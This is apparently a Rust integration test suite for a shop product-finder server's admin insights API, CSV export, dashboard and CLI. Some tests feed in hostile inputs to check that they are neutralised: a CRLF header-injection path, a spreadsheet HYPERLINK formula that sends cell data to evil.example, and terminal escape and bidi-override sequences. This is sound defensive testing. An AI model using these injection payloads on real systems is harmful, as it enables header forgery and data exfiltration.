//! Insights through the real server: seeded conversations (real WebSocket) and shop events (the API and the
//! widget's click) give exactly the expected figures in the admin API, as JSON and CSV, and again after a restart.

use serde_json::{Value, json};
use shopkeep::secret::TokenHash;
use shopkeep::server::Settings;

use crate::profiles::{KEY, private_settings};
use crate::support::{TestApp, api, http_raw, spawn_with};

const ADMIN: &str = "insights-admin";

fn settings() -> Settings {
    Settings {
        admin_token: Some(TokenHash::new(ADMIN)),
        ..private_settings()
    }
}

/// `shopkeep insights ARGS`: stdout, or stderr when it fails.
pub async fn cli(args: &[&str]) -> Result<String, String> {
    let output = tokio::process::Command::new(env!("CARGO_BIN_EXE_shopkeep"))
        .arg("insights")
        .args(args)
        .env_remove("SHOPKEEP_ADMIN_TOKEN")
        .output();
    let output = tokio::time::timeout(std::time::Duration::from_secs(60), output)
        .await
        .expect("done in time")
        .expect("runs");
    if output.status.success() {
        Ok(String::from_utf8_lossy(&output.stdout).to_string())
    } else {
        Err(String::from_utf8_lossy(&output.stderr).to_string())
    }
}

async fn report(app: &TestApp, query: &str) -> Value {
    let (status, body) = api(
        app.addr,
        "GET",
        &format!("/admin/insights/running-shoes{query}"),
        ADMIN,
        None,
    )
    .await;
    assert_eq!(status, 200, "{body}");
    body
}

fn row<'a>(rows: &'a Value, key: &str, value: &str) -> &'a Value {
    rows.as_array()
        .and_then(|rows| rows.iter().find(|r| r[key] == value))
        .unwrap_or_else(|| panic!("no row with {key} = {value} in {rows:#}"))
}

/// Three shoppers: `va` finishes and clicks (in the chat) and buys a pick; `vb` is not understood once and
/// leaves at the priorities; `vc` finishes without clicking. Returns va's first pick, its title and how many of the two
/// results shown were loosened.
async fn seed(app: &TestApp) -> (String, String, u64) {
    let mut relaxed = 0;
    let mut va = app.client().await;
    va.send(json!({"type": "start", "flow": "running-shoes", "locale": "en", "visitor": "va"}))
        .await;
    va.until("question").await;
    for answer in [
        json!({"value": "trail"}),
        json!({"value": "yes"}),
        json!({"values": ["cushioning"]}),
        json!({"range": {"max": 150}}),
    ] {
        va.answer(answer).await;
    }
    va.send(json!({"type": "skip"})).await;
    let products = va.next_step().await;
    assert_eq!(products["type"], "products", "{products}");
    relaxed += u64::from(!products["relaxed"].as_array().expect("relaxed").is_empty());
    let title = products["products"][0]["title"]
        .as_str()
        .expect("a title")
        .to_string();
    let pick = products["products"][0]["id"]
        .as_str()
        .expect("a pick")
        .to_string();
    va.send(json!({"type": "event", "kind": "clicked", "product": pick}))
        .await;
    // The click has no reply; a refused message after it answers once the click was taken in.
    va.send(json!({"type": "answer"})).await;
    assert_eq!(va.recv().await["type"], "error");
    let order = json!({"id": "buy-1", "visitor": "va", "kind": "purchased",
        "order": {"id": "o-1", "lines": [{"product": pick, "quantity": 1}, {"product": "not-a-pick", "quantity": 3}]}});
    let (status, body) = api(app.addr, "POST", "/v1/events", KEY, Some(order)).await;
    assert_eq!(status, 200, "{body}");

    let mut vb = app.client().await;
    vb.send(json!({"type": "start", "flow": "running-shoes", "locale": "en", "visitor": "vb"}))
        .await;
    vb.until("question").await;
    let again = vb.answer(json!({"text": "on the moon"})).await;
    assert_eq!(again["id"], "terrain", "not understood: asked again");
    let next = vb.answer(json!({"text": "road"})).await;
    assert_eq!(next["id"], "priorities");
    drop(vb);

    let mut vc = app.client().await;
    vc.send(json!({"type": "start", "flow": "running-shoes", "locale": "en", "visitor": "vc"}))
        .await;
    vc.until("question").await;
    for answer in [
        json!({"value": "road"}),
        json!({"values": ["light"]}),
        json!({"value": "no"}),
        json!({"range": {"max": 40}}),
    ] {
        vc.answer(answer).await;
    }
    vc.send(json!({"type": "skip"})).await;
    let products = vc.next_step().await;
    assert_eq!(products["type"], "products", "{products}");
    relaxed += u64::from(!products["relaxed"].as_array().expect("relaxed").is_empty());
    (pick, title, relaxed)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn seeded_conversations_and_events_give_exact_figures_that_survive_a_restart() {
    let app = spawn_with(tempfile::tempdir().expect("temp dir"), settings()).await;
    let (pick, title, relaxed) = seed(&app).await;
    let body = report(&app, "?since=1d").await;
    let funnel = &body["funnel"];
    assert_eq!(
        funnel.as_array().map(Vec::len),
        Some(2),
        "one version and the total: {funnel:#}"
    );
    let all = &funnel[1];
    assert_eq!(all["version"], "*");
    let figures = |f: &Value| {
        [
            "starts",
            "completed",
            "results_shown",
            "relaxed_results",
            "zero_results",
            "clicked",
            "clicks",
            "purchased",
            "units_bought",
            "carted",
        ]
        .map(|k| f[k].as_u64().unwrap_or_else(|| panic!("{k} in {f}")))
    };
    assert_eq!(figures(all), [3, 2, 2, relaxed, 0, 1, 1, 1, 1, 0]);
    assert_eq!(all["completion_rate"], 0.6667);
    assert_eq!(all["click_through"], 0.5);

    let questions = &body["questions"];
    let order: Vec<&str> = questions
        .as_array()
        .expect("rows")
        .iter()
        .map(|q| q["question"].as_str().unwrap_or(""))
        .collect();
    assert_eq!(
        order,
        [
            "terrain",
            "waterproof",
            "priorities",
            "race",
            "budget",
            "colour"
        ],
        "the finder's order"
    );
    let counts = |id: &str| {
        let q = row(questions, "question", id);
        [
            "reached",
            "answered",
            "dropped",
            "skipped",
            "not_understood",
        ]
        .map(|k| q[k].as_u64().expect("a count"))
    };
    assert_eq!(counts("terrain"), [3, 3, 0, 0, 1]);
    assert_eq!(counts("priorities"), [3, 2, 1, 0, 0]);
    assert_eq!(counts("colour"), [2, 2, 0, 2, 0]);
    assert_eq!(row(questions, "question", "terrain")["timed"], 3);
    let text = &body["not_understood"][0];
    assert_eq!(
        (
            text["question"].as_str(),
            text["text"].as_str(),
            text["count"].as_u64()
        ),
        (Some("terrain"), Some("on the moon"), Some(1))
    );

    let answers = &body["answers"];
    let terrain: Vec<(String, u64)> = answers
        .as_array()
        .expect("rows")
        .iter()
        .filter(|a| a["question"] == "terrain")
        .map(|a| {
            (
                a["answer"].as_str().unwrap_or("").to_string(),
                a["given"].as_u64().unwrap_or(0),
            )
        })
        .collect();
    assert_eq!(terrain, [("road".to_string(), 2), ("trail".to_string(), 1)]);
    assert_eq!(row(answers, "answer", "trail")["results_shown"], 1);
    let product = row(&body["products"], "product", &pick);
    assert_eq!(
        (
            product["shown"].as_u64(),
            product["clicked"].as_u64(),
            product["purchased"].as_u64()
        ),
        (Some(1), Some(1), Some(1))
    );
    assert!(
        body["answer_products"]
            .as_array()
            .expect("rows")
            .iter()
            .any(|p| p["answer"] == "trail" && p["product"] == pick.as_str())
    );
    assert_eq!(body["paths"].as_array().map(Vec::len), Some(2));

    // Each table as CSV.
    let auth = format!("Bearer {ADMIN}");
    let csv = http_raw(
        app.addr,
        "GET",
        "/admin/insights/running-shoes/questions.csv?since=1d",
        &[("Authorization", &auth)],
    )
    .await;
    assert_eq!(csv.status, 200);
    assert_eq!(csv.header("content-type"), Some("text/csv; charset=utf-8"));
    assert_eq!(
        csv.header("content-disposition"),
        Some(r#"attachment; filename="running-shoes-questions.csv""#)
    );
    // The file name holds the finder id, which must be a loaded finder: a line break in it adds no header.
    let injected = http_raw(
        app.addr,
        "GET",
        "/admin/insights/running-shoes%0d%0aSet-Cookie:%20taken=1/questions.csv?since=1d",
        &[("Authorization", &auth)],
    )
    .await;
    assert_eq!(injected.status, 404);
    assert!(injected.header("set-cookie").is_none());
    assert!(injected.header("content-disposition").is_none());
    let text = String::from_utf8_lossy(&csv.body).to_string();
    let mut lines = text.lines();
    assert!(
        lines
            .next()
            .is_some_and(|h| h.starts_with("question,reached,answered,dropped,drop_rate")),
        "{text}"
    );
    assert!(
        lines
            .next()
            .is_some_and(|l| l.starts_with("terrain,3,3,0,0")),
        "{text}"
    );

    // Refusals: no token, unknown finder, table or span.
    let (status, _) = api(
        app.addr,
        "GET",
        "/admin/insights/running-shoes",
        "wrong",
        None,
    )
    .await;
    assert_eq!(status, 401);
    let (status, body) = api(app.addr, "GET", "/admin/insights/hats", ADMIN, None).await;
    assert_eq!(status, 404, "{body}");
    let (status, body) = api(
        app.addr,
        "GET",
        "/admin/insights/running-shoes/nope.csv",
        ADMIN,
        None,
    )
    .await;
    assert_eq!(status, 404);
    assert!(
        body["message"]
            .as_str()
            .unwrap_or("")
            .contains("funnel.csv"),
        "{body}"
    );
    let (status, body) = api(
        app.addr,
        "GET",
        "/admin/insights/running-shoes?since=7x",
        ADMIN,
        None,
    )
    .await;
    assert_eq!(status, 400);
    assert!(
        body["message"].as_str().unwrap_or("").contains("7d"),
        "{body}"
    );
    let (status, body) = api(app.addr, "GET", "/admin/insights", ADMIN, None).await;
    assert_eq!(status, 200);
    assert!(
        body["finders"]
            .as_array()
            .expect("list")
            .iter()
            .any(|f| f["id"] == "running-shoes")
    );

    // The dashboard: a browser without the token is asked for it (Basic), and gets the page with it.
    let refused = http_raw(app.addr, "GET", "/admin/", &[]).await;
    assert_eq!(refused.status, 401);
    assert!(
        refused
            .header("www-authenticate")
            .is_some_and(|h| h.starts_with("Basic "))
    );
    let basic = {
        use base64::Engine;
        format!(
            "Basic {}",
            base64::engine::general_purpose::STANDARD.encode(format!("admin:{ADMIN}"))
        )
    };
    let page = http_raw(
        app.addr,
        "GET",
        "/admin/dashboard/running-shoes?since=1d&lang=ja",
        &[("Authorization", &basic)],
    )
    .await;
    assert_eq!(page.status, 200);
    let html = String::from_utf8_lossy(&page.body).to_string();
    assert!(
        html.contains(r#"<html lang="ja">"#) && html.contains("質問ごとの離脱"),
        "{html}"
    );
    assert!(
        html.contains("on the moon") && !html.contains("<script"),
        "{html}"
    );
    let escaped = shopkeep::text::escape_markup(&title);
    assert!(
        html.contains(&format!("<td>{escaped}</td>"))
            && html.contains("<th scope=\"col\">商品名</th>"),
        "the pick's title beside its id: {html}"
    );

    // The same tables in the terminal, from the server's API, and as CSV.
    let server = app.url();
    let printed = cli(&[
        "running-shoes",
        "--since",
        "1d",
        "--server",
        &server,
        "--admin-token",
        ADMIN,
    ])
    .await;
    let printed = printed.expect("shopkeep insights prints");
    assert!(printed.starts_with("running-shoes: "), "{printed}");
    let funnel_total = printed
        .lines()
        .find(|l| l.trim_start().starts_with("* "))
        .expect("the total row");
    assert!(
        funnel_total.split_whitespace().take(3).eq(["*", "3", "0"]),
        "{funnel_total}"
    );
    let terrain = printed
        .lines()
        .find(|l| l.trim_start().starts_with("terrain "))
        .expect("a terrain row");
    assert!(
        terrain.split_whitespace().take(3).eq(["terrain", "3", "3"]),
        "{terrain}"
    );
    let as_csv = cli(&[
        "running-shoes",
        "--since",
        "1d",
        "--server",
        &server,
        "--admin-token",
        ADMIN,
        "--csv",
        "questions",
    ])
    .await;
    assert_eq!(as_csv.expect("csv"), text);
    let refused = cli(&[
        "running-shoes",
        "--server",
        &server,
        "--admin-token",
        "wrong",
    ])
    .await;
    assert!(refused.expect_err("refused").contains("401"));

    // A restart keeps the figures, and a cart add of a pick shown before it still counts.
    let data = app.stop().await;
    // A stopped server's data folder gives the same tables.
    let dir = data.path().display().to_string();
    let flows = crate::support::repo("flows").display().to_string();
    let offline = cli(&[
        "running-shoes",
        "--since",
        "1d",
        "--data",
        &dir,
        "--flows",
        &flows,
        "--csv",
        "questions",
    ])
    .await;
    assert_eq!(offline.expect("reads the data folder"), text);
    let app = spawn_with(data, settings()).await;
    let cart = json!({"id": "cart-1", "visitor": "va", "kind": "added_to_cart", "product": pick});
    let (status, _) = api(app.addr, "POST", "/v1/events", KEY, Some(cart)).await;
    assert_eq!(status, 200);
    let body = report(&app, "?since=1d").await;
    assert_eq!(
        figures(&body["funnel"][1]),
        [3, 2, 2, relaxed, 0, 1, 1, 1, 1, 1]
    );
    assert_eq!(
        row(&body["questions"], "question", "priorities")["dropped"],
        1
    );
    app.stop().await;
}

/// What a shopper types reaches the merchandiser's sheet, page and terminal as text: a formula stays text in the
/// CSV, and escape sequences and bidirectional overrides never reach a terminal or a page.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn typed_formulas_and_escape_sequences_reach_the_figures_as_harmless_text() {
    let app = spawn_with(tempfile::tempdir().expect("temp dir"), settings()).await;
    let mut client = app.client().await;
    client
        .send(json!({"type": "start", "flow": "running-shoes", "locale": "en", "visitor": "vh"}))
        .await;
    client.until("question").await;
    for typed in [
        r#"=HYPERLINK("http://evil.example/?x="&A1,"Click")"#,
        "zz\u{1b}]0;pwned\u{7}\u{1b}[31mred\u{202e}abc",
    ] {
        let again = client.answer(json!({"text": typed})).await;
        assert_eq!(again["id"], "terrain", "not understood: {again}");
    }
    let body = report(&app, "?since=1d").await;
    let texts: Vec<&str> = body["not_understood"]
        .as_array()
        .expect("rows")
        .iter()
        .filter_map(|r| r["text"].as_str())
        .collect();
    let formula = r#"=hyperlink("http://evil.example/?x="&a1,"click")"#;
    assert!(
        texts.contains(&formula),
        "the API gives it as typed: {texts:?}"
    );
    assert!(
        texts.contains(&"zz\u{fffd}]0;pwned\u{fffd}\u{fffd}[31mred\u{fffd}abc"),
        "{texts:?}"
    );

    let auth = format!("Bearer {ADMIN}");
    let csv = http_raw(
        app.addr,
        "GET",
        "/admin/insights/running-shoes/not_understood.csv?since=1d",
        &[("Authorization", &auth)],
    )
    .await;
    let csv = String::from_utf8_lossy(&csv.body).to_string();
    assert!(
        csv.lines()
            .any(|l| l == r#"terrain,"'=hyperlink(""http://evil.example/?x=""&a1,""click"")",1"#),
        "the formula is text in a spreadsheet: {csv}"
    );

    let page = http_raw(
        app.addr,
        "GET",
        "/admin/dashboard/running-shoes?since=1d",
        &[("Authorization", &auth)],
    )
    .await;
    let html = String::from_utf8_lossy(&page.body).to_string();
    assert!(html.contains("pwned"), "the text is shown");
    assert!(
        !html.contains('\u{1b}') && !html.contains('\u{202e}') && !html.contains('\u{7}'),
        "{html}"
    );

    let printed = cli(&[
        "running-shoes",
        "--since",
        "2d",
        "--rows",
        "5",
        "--server",
        &app.url(),
        "--admin-token",
        ADMIN,
    ])
    .await
    .expect("shopkeep insights prints");
    assert!(printed.contains(formula), "{printed}");
    assert!(
        !printed.contains('\u{1b}') && !printed.contains('\u{202e}') && !printed.contains('\u{7}'),
        "{printed:?}"
    );
    // Two days are hourly buckets, more than five: the latest five are shown, this hour's last.
    let series: Vec<&str> = printed
        .lines()
        .skip_while(|l| !l.starts_with("series"))
        .take_while(|l| !l.is_empty())
        .collect();
    assert!(
        series[0].starts_with("series (the latest 5 of "),
        "{series:?}"
    );
    assert_eq!(series.len(), 7, "title, header, five rows: {series:?}");
    let started: u64 = series[2..]
        .iter()
        .filter_map(|l| l.split_whitespace().nth(2)?.parse::<u64>().ok())
        .sum();
    assert_eq!(
        started, 1,
        "the conversation of this hour is among them: {series:?}"
    );
    app.stop().await;
}

/// A phone number typed where the budget is asked is read as an amount; the figures show the budget as open
/// ("any"), never the number.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_phone_number_typed_as_a_budget_never_reaches_the_figures() {
    let app = spawn_with(tempfile::tempdir().expect("temp dir"), settings()).await;
    let mut client = app.client().await;
    client
        .send(json!({"type": "start", "flow": "running-shoes", "locale": "en", "visitor": "vp"}))
        .await;
    client.until("question").await;
    for answer in [
        json!({"value": "road"}),
        json!({"values": ["light"]}),
        json!({"value": "no"}),
    ] {
        client.answer(answer).await;
    }
    let next = client
        .answer(json!({"text": "call me on 09012345678"}))
        .await;
    assert_eq!(
        next["id"], "colour",
        "the text was taken as a budget: {next}"
    );
    client.send(json!({"type": "skip"})).await;
    assert_eq!(client.next_step().await["type"], "products");
    let body = report(&app, "?since=1d").await;
    assert!(
        !body.to_string().contains("9012345678"),
        "no phone number in the figures: {body:#}"
    );
    let budget = row(&body["answers"], "question", "budget");
    assert_eq!(budget["answer"], "–", "{budget}");
    assert_eq!(budget["results_shown"], 1, "{budget}");
    assert!(
        body["paths"][0]["path"]
            .as_str()
            .is_some_and(|p| p.contains("budget=– ›") || p.ends_with("budget=–")),
        "{body:#}"
    );
    app.stop().await;
}
